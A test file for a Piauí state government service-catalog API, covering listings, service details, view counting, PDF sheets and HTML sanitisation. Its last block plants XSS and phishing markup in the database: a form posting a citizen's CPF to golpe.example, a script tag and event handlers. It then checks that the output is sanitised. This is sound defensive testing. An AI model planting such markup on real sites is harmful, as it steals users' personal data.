import { sql } from 'drizzle-orm';
import { PDFDocument } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createTestApp, type TestApp } from '../../test-support/app.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

/** "Mais acessados" as the database has it: views are written in batches about once a second (lib/batch.ts). */
const accessCount = async (slug: string) =>
  ((await t.app.db.execute(sql`select access_count from services where slug = ${slug}`)) as unknown as { rows: { access_count: number }[] }).rows[0]!.access_count;
const eventually = (check: () => Promise<void>) => vi.waitFor(check, { timeout: 5000, interval: 100 });
const batchInterval = () => new Promise((resolve) => setTimeout(resolve, 1500));

describe('GET /v1/category', () => {
  it('lists the categories in order, audience categories first', async () => {
    const res = await t.app.inject({ url: '/v1/category' });
    expect(res.statusCode).toBe(200);
    const list = res.json();
    expect(list.length).toBeGreaterThanOrEqual(15);
    expect(list.slice(0, 3).map((c: { slug: string }) => c.slug)).toEqual(['servicos-ao-cidadao', 'servidor-publico', 'negocios-e-empresas']);
    const orders = list.map((c: { orderIndex: number }) => c.orderIndex);
    expect(orders).toEqual([...orders].sort((a, b) => a - b));
    expect(list.find((c: { slug: string }) => c.slug === 'transito-e-veiculos').name).toBe('Trânsito e Veículos');
  });
});

describe('GET /v1/catalog/{slug}/load', () => {
  it('answers the whole service: steps with documents, units, info, rating, department', async () => {
    const res = await t.app.inject({ url: '/v1/catalog/renovacao-da-cnh/load' });
    expect(res.statusCode).toBe(200);
    const item = res.json();
    expect(item.name).toMatch(/CNH/);
    expect(item.department.shortName).toBe('DETRAN-PI');
    expect(item.category.slug).toBe('transito-e-veiculos');
    expect(item.steps.length).toBeGreaterThan(0);
    expect(item.steps.map((s: { orderIndex: number }) => s.orderIndex)).toEqual(item.steps.map((_: unknown, i: number) => i + 1));
    expect(item.steps.flatMap((s: { documents: string[] }) => s.documents).length).toBeGreaterThan(0);
    expect(item.departmentSections.length).toBeGreaterThan(0);
    expect(item.departmentSections[0].mapUrl).toMatch(/^https:\/\/www\.openstreetmap\.org\//);
    expect(item.popularNames.length).toBeGreaterThan(0);
    expect(item.averageRatings.count).toBeGreaterThanOrEqual(0);
    expect(['BRONZE', 'PRATA', 'OURO', 'OPALA']).toContain(item.accessProfile.name);
  });

  it('counts each visitor\'s access for "mais acessados", cached answers included', async () => {
    const before = await accessCount('historico-escolar');
    const first = await t.app.inject({ url: '/v1/catalog/historico-escolar/load', remoteAddress: '10.3.0.1' });
    const second = await t.app.inject({ url: '/v1/catalog/historico-escolar/load', remoteAddress: '10.3.0.2' });
    expect([first.statusCode, second.statusCode]).toEqual([200, 200]);
    expect(second.headers['x-cache']).toBe('hit');
    await eventually(async () => expect(await accessCount('historico-escolar')).toBe(before + 2));
  });

  it('counts one view per address and service in an hour: reloading, even all at once, cannot move the ranking', async () => {
    const load = (remoteAddress: string, slug = 'disque-denuncia') => t.app.inject({ url: `/v1/catalog/${slug}/load`, remoteAddress });
    const before = await accessCount('disque-denuncia');
    await load('10.3.1.1');
    const reloads = await Promise.all(Array.from({ length: 20 }, () => load('10.3.1.2')));
    expect(reloads.map((r) => r.statusCode)).toEqual(Array(20).fill(200));
    await load('10.3.1.3');
    await eventually(async () => expect(await accessCount('disque-denuncia')).toBe(before + 3));
    await load('10.3.1.1');
    await load('10.3.1.2');
    await batchInterval();
    expect(await accessCount('disque-denuncia')).toBe(before + 3);
    // The same address viewing another service counts there.
    const other = await accessCount('historico-escolar');
    await load('10.3.1.2', 'historico-escolar');
    await eventually(async () => expect(await accessCount('historico-escolar')).toBe(other + 1));
  });

  it('answers 404 in Portuguese for an unknown service', async () => {
    const res = await t.app.inject({ url: '/v1/catalog/servico-que-nao-existe/load' });
    expect(res.statusCode).toBe(404);
    expect(res.json()).toEqual({ statusCode: 404, error: 'Not Found', message: expect.stringContaining('Serviço não encontrado') });
  });

  it('answers a discontinued service as the spec’s detail, with why it ended and what replaced it (decision 017)', async () => {
    const res = await t.app.inject({ url: '/v1/catalog/declaracao-para-ex-empregados-de-empresas-estaduais-extintas/load' });
    expect(res.statusCode).toBe(200);
    const item = res.json();
    expect(item.active).toBe(false);
    expect(item.discontinuedReason).toMatch(/SEAD/);
    expect(item.replacedBy).toEqual({ slug: 'certidao-de-tempo-de-servico', title: 'Certidão de tempo de serviço', categorySlug: 'gestao-publica' });
    const noReplacement = (await t.app.inject({ url: '/v1/catalog/leilao-de-bens-inserviveis-do-estado/load' })).json();
    expect(noReplacement).toMatchObject({ active: false, replacedBy: null });
    expect(noReplacement.discontinuedReason).toMatch(/EMGERPI encerrou/);
    // An active service carries neither.
    expect((await t.app.inject({ url: '/v1/catalog/renovacao-da-cnh/load' })).json()).toMatchObject({ active: true, discontinuedReason: '', replacedBy: null });
    // Search never lists it.
    const found = await t.app.inject({ method: 'POST', url: '/v1/search', payload: { groups: ['CATALOG'], query: 'leilão de bens inservíveis' } });
    expect(found.json().map((r: { slug: string }) => r.slug)).not.toContain('leilao-de-bens-inserviveis-do-estado');
  });

  it('answers 400 for a malformed slug', async () => {
    const res = await t.app.inject({ url: `/v1/catalog/${encodeURIComponent('<script>')}/load` });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/Identificador inválido/);
  });
});

describe('GET /v1/catalog/{slug}/pdf', () => {
  it('is a real PDF service sheet with the service title', async () => {
    const res = await t.app.inject({ url: '/v1/catalog/carteira-de-identidade-primeira-via/pdf' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe('inline; filename="carteira-de-identidade-primeira-via.pdf"');
    const pdf = await PDFDocument.load(res.rawPayload);
    expect(pdf.getPageCount()).toBeGreaterThanOrEqual(1);
    const load = (await t.app.inject({ url: '/v1/catalog/carteira-de-identidade-primeira-via/load' })).json();
    expect(pdf.getTitle()).toBe(load.title);
    expect(pdf.getAuthor()).toBe('Governo do Estado do Piauí');
  });

  it('answers 404 JSON for an unknown service', async () => {
    const res = await t.app.inject({ url: '/v1/catalog/nao-existe/pdf' });
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).toMatch(/application\/json/);
  });
});

describe('rich text written straight into the database', () => {
  // What an import, a script or an older back office could leave in a row: markup that posts the
  // citizen's data elsewhere, restyles the page or runs. The seed sanitises; a direct write does not.
  const RAW =
    '<p>Antes</p><form action="https://golpe.example/coleta" method="post"><input name="cpf"><button>Enviar CPF</button></form>' +
    '<style>body{display:none}</style><script>alert(1)</script><img src="x" onerror="alert(1)"><p onclick="alert(2)" style="color:red">Depois</p>';
  const DANGER = /<form|action=|<input|<button|<style|display:none|<script|alert\(|onerror|onclick|<img|style=/i;
  const SLUG = 'servico-gravado-direto';

  beforeAll(async () => {
    await t.app.db.execute(sql`
      insert into services (slug, title, description, category_id, department_id, access_profile_id, result_category_id, platforms)
      select ${SLUG}, 'Serviço gravado direto no banco', ${RAW}, category_id, department_id, access_profile_id, result_category_id, platforms
      from services where slug = 'renovacao-da-cnh'`);
    await t.app.db.execute(sql`
      insert into service_steps (service_id, order_index, name, description, channel, html_content)
      select id, 1, 'Acesse o site', 'Passo único', 'online', ${RAW} from services where slug = ${SLUG}`);
    await t.app.db.execute(sql`
      insert into service_info (service_id, order_index, title, text, icon)
      select id, 1, 'Observações', ${RAW}, 'info' from services where slug = ${SLUG}`);
    await t.app.db.execute(sql`select refresh_service_search(null)`);
  });

  it('comes out of GET /v1/catalog/{slug}/load with none of the injected form, style, script or handlers', async () => {
    const res = await t.app.inject({ url: `/v1/catalog/${SLUG}/load` });
    expect(res.statusCode).toBe(200);
    const item = res.json();
    for (const html of [item.description, item.steps[0].htmlContent, item.info[0].text]) {
      expect(html).not.toMatch(DANGER);
      expect(html).toBe('<p>Antes</p>Enviar CPF<p>Depois</p>');
    }
    expect(res.body).not.toMatch(DANGER);
  });

  it('comes out of the search cards and the PDF sheet sanitised too', async () => {
    const search = await t.app.inject({ method: 'POST', url: '/v1/search', payload: { slugs: [SLUG] } });
    expect(search.statusCode).toBe(200);
    expect(search.body).toContain(SLUG);
    expect(search.body).not.toMatch(DANGER);
    const pdf = await t.app.inject({ url: `/v1/catalog/${SLUG}/pdf` });
    expect(pdf.statusCode).toBe(200);
    expect(pdf.rawPayload.toString('latin1')).not.toMatch(/alert|golpe\.example|display:none/);
  });
});
